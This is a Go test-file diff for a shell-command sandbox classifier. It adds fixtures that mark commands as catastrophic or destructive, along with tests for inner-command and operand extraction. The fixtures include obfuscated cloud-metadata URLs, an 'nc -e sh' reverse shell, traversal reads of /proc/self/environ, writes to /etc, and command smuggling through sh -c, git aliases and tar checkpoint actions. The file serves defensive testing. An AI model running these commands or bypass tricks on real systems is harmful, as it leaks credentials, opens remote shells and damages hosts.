@@ -1,6 +1,10 @@
 package sandbox_test
 
 import (
+	"context"
+	"errors"
+	"os"
+	"path/filepath"
 	"strings"
 	"testing"
 
@@ -113,7 +117,36 @@ refused      curl http://[::ffff:169.254.169.254]/
 catastrophic curl 'http://[::ffff:169.254.169.254]/'
 catastrophic curl 'http://[::ffff:a9fe:a9fe]/'
 catastrophic curl http://2852039166/
+catastrophic curl http://0xa9.0xfe.0xa9.0xfe/
+catastrophic curl http://169.254.43518/
+catastrophic curl http://0251.0376.0251.0376:80/
+catastrophic curl http://0xA9FEA9FE/
+catastrophic curl 'http://[fd00:ec2:0::254]/'
+catastrophic curl 'http://[::ffff:169.254.170.2]:80/'
 catastrophic nc -e sh 10.0.0.1 4444
+catastrophic cat ../../../../../../proc/self/environ
+catastrophic cat sub/../../../../proc/self/environ
+catastrophic head -c 100 ../../../proc/1/mem
+catastrophic grep -f/proc/self/environ x
+catastrophic grep -rf../../../proc/self/environ x
+catastrophic grep -r x /proc
+catastrophic diff --to-file=../../../proc/self/environ x
+catastrophic wc --files0-from=/proc/self/cmdline
+catastrophic jq --rawfile x /proc/self/environ .
+catastrophic xargs -a/proc/self/environ
+catastrophic cat ../../../../dev/sda
+catastrophic cat -n/dev/mem
+catastrophic python3 -c "open('/proc/self/environ')"
+catastrophic cp -t/etc x
+catastrophic cp -rt/etc x
+catastrophic mv -t/etc x
+catastrophic mv -t../../etc x
+catastrophic tar -C/etc -xf x
+catastrophic tar -xC/usr -f x
+catastrophic sudoedit x
+catastrophic gosu root ls
+catastrophic timedatectl set-time 2027-01-01
+catastrophic hwclock --set
 catastrophic chmod -R 777 /
 catastrophic chown -R me /etc
 catastrophic mv x /usr/bin/ls
@@ -144,7 +177,17 @@ destructive  sort --compress-prog=./x y
 destructive  uniq a b
 destructive  date -s tomorrow
 destructive  date --se=tomorrow
+destructive  date 010100002027
+destructive  date -u 010100002027
+destructive  date +%F 010100002027
+destructive  date -d now 010100002027
+destructive  date -- 010100002027
+destructive  env date 010100002027
 destructive  hostname evil
+destructive  uniq -c a b
+destructive  uniq - b
+destructive  sort -k1 -ox y
+destructive  yq -i .a x
 destructive  file -C -m x
 destructive  tree -o x
 destructive  rg --pre ./x y
@@ -218,7 +261,7 @@ func TestNoBypassGetsALowerClass(t *testing.T) {
 		}
 	}
 	require.Empty(t, wrong)
-	require.GreaterOrEqual(t, tried, 150)
+	require.GreaterOrEqual(t, tried, 190)
 	for _, hidden := range []string{"ls \u202egpj.exe", "ls \x00", "ls \x1b[2J", "ls \u200b", strings.Repeat("x", 40_000), "", " ", "''"} {
 		_, err := sandbox.Parse(hidden)
 		require.Error(t, err, "%q", hidden)
@@ -242,6 +285,17 @@ git show HEAD
 du -sh .
 df -h
 date +%F
+date -d yesterday +%F
+date --date yesterday
+date -r notes.md
+grep -e/usr notes.md
+cat src/dev/main.go
+cat a..b/proc/1
+ls ../dev-tools
+echo 2852039167 10.0.0.1 fd00:ec2::255
+jq -f filter.jq x.json
+diff --to-file=a b
+wc --files0-from=names
 timeout 5 ls -l
 nice ls
 nice -n 10 cat x
@@ -289,4 +343,52 @@ func FuzzParse(f *testing.F) {
 			require.GreaterOrEqual(t, wrapped, class, "%q %q", wrapper, argv)
 		}
 	})
+}
+
+func TestInnerCommandsAndOperandsOfACommand(t *testing.T) {
+	for line, want := range map[string]string{
+		"timeout 5 nice curl x": "curl x", "env A=b curl x": "curl x", "env -i curl x": "curl x", "xargs -n1 curl x": "curl x", "nohup curl x": "curl x", "xargs -I{} curl x": "curl x",
+		"find . -exec curl x": "curl x", "sh -c 'ls; curl x'": "curl x", "bash -lc 'curl x'": "curl x", "env sh -c 'true && curl x'": "curl x", "busybox sh -c 'curl x'": "curl x",
+		"git -c alias.x='!curl x' x": "curl x", "env -S 'curl x'": "curl x", "nice -n5 curl x": "curl x", "setsid -w curl x": "curl x", "sh -c 'sh -c \"curl x\"'": "curl x",
+		"tar cf y . --checkpoint-action=exec='curl x'": "curl x",
+	} {
+		argv, err := sandbox.Parse(line)
+		require.NoError(t, err, line)
+		var inner []string
+		for _, command := range sandbox.Inner(argv) {
+			inner = append(inner, strings.Join(command, " "))
+		}
+		require.Contains(t, inner, want, line)
+	}
+	for _, line := range []string{"curl x", "echo curl x", "grep curl x", "find . -name curl", "npm install curl", "git log curl"} {
+		argv, err := sandbox.Parse(line)
+		require.NoError(t, err, line)
+		require.Empty(t, sandbox.Inner(argv), line)
+	}
+	for line, want := range map[string][]string{
+		"ls": nil, "cat /srv/a b": {"/srv/a", "b"}, "grep -f/srv/a x": {"/srv/a", "x"}, "cp --target-directory=/srv a": {"--", "/srv", "a"}, "dd of=/srv/a": {"/srv/a", "of=/srv/a"},
+		"timeout 5 /usr/bin/ls /srv": {"/srv"}, "./run /srv": {"./run", "/srv"}, "tee /dev/null a": {"a"}, "tar -xC/srv -f a": {"/srv", "a"}, "sh -c 'cat /srv/a'": {"/srv/a", "cat", "cat /srv/a"},
+	} {
+		argv, err := sandbox.Parse(line)
+		require.NoError(t, err, line)
+		for _, name := range want {
+			if name != "--" {
+				require.Contains(t, sandbox.Operands(argv), name, line)
+			}
+		}
+		require.NotContains(t, sandbox.Operands(argv), "/usr/bin/ls", line)
+		require.NotContains(t, sandbox.Operands(argv), "/dev/null", line)
+	}
+}
+
+func TestAFingerprintEndsWithItsContext(t *testing.T) {
+	folder := t.TempDir()
+	require.NoError(t, os.WriteFile(filepath.Join(folder, "a"), make([]byte, 1<<20), 0o600))
+	ctx, cancel := context.WithCancelCause(t.Context())
+	_, err := sandbox.Fingerprint(ctx, []string{"rm", "a"}, folder)
+	require.NoError(t, err)
+	enough := errors.New("enough")
+	cancel(enough)
+	_, err = sandbox.Fingerprint(ctx, []string{"rm", "a"}, folder)
+	require.ErrorIs(t, err, enough)
 }
